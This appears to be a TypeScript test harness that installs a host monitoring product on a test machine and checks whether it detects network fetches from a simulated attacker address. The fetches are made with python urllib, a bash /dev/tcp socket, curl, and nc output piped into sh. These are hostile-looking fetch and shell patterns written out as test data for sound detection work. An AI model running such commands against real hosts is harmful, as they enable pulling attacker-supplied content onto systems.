import { alerts, configure, copyRelease, mustInstall, waitForScans } from "./product.ts";
import { bootHost } from "./testhost.ts";

const host = await bootHost();
try {
  const attacker = host.address.replace(/2$/, "1");
  await copyRelease(host);
  await mustInstall(host);
  await configure(host, { MODE: "enforce" });
  await waitForScans(host, 2);
  host.attacker.order({ do: "http", port: 8080, files: { "/x": "hello" } });
  await Bun.sleep(300);
  for (const [name, script] of [
    [
      "python",
      `for i in $(seq 5); do python3 -c 'import urllib.request; print(urllib.request.urlopen("http://${attacker}:8080/x").read())'; done`,
    ],
    [
      "devtcp",
      `for i in $(seq 5); do bash -c 'exec 3<>/dev/tcp/${attacker}/8080; printf "GET /x HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n" >&3; cat <&3 | head -c 10'; done`,
    ],
    ["curl", `for i in $(seq 5); do curl -s http://${attacker}:8080/x; done`],
    [
      "ncprintf",
      `for i in $(seq 40); do printf 'GET /x HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' | nc -q1 ${attacker} 8080 | sh -c 'cat >/dev/null'; done`,
    ],
  ] as const) {
    const t = performance.now();
    const r = await host.exec(
      `systemd-run --quiet --pipe --wait --collect bash -c '${script.replaceAll("'", "'\\''")}' | tail -1`,
    );
    console.log(name, (performance.now() - t).toFixed(0), "ms", r.stdout.slice(0, 60), r.stderr.slice(0, 200));
    await Bun.sleep(3200);
    console.log((await host.exec('algo-monitor status | grep -E "sensor|missed|blind"')).stdout);
  }
  console.log(
    (await host.exec("journalctl -u algo-monitor --no-pager -o cat | grep -aE DEV | cut -c1-220 | tail -150")).stdout,
  );
  for (const alert of await alerts(host))
    console.log(alert.rule.name, alert.count, alert.title.slice(0, 200), alert.action);
  console.log((await host.exec("algo-monitor status")).stdout);
} finally {
  await host.stop();
}
